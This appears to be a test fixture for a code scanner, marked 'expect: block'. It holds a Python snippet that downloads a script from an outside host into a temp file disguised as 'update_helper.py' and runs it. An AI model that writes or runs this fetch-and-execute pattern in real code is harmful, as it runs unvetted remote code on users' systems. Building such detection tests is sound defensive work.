# expect: block
import runpy
import tempfile
import urllib.request
from pathlib import Path

stage = Path(tempfile.gettempdir()) / "update_helper.py"
urllib.request.urlretrieve("https://updates.example-cdn.net/helper.py", stage)
runpy.run_path(str(stage), run_name="__main__")
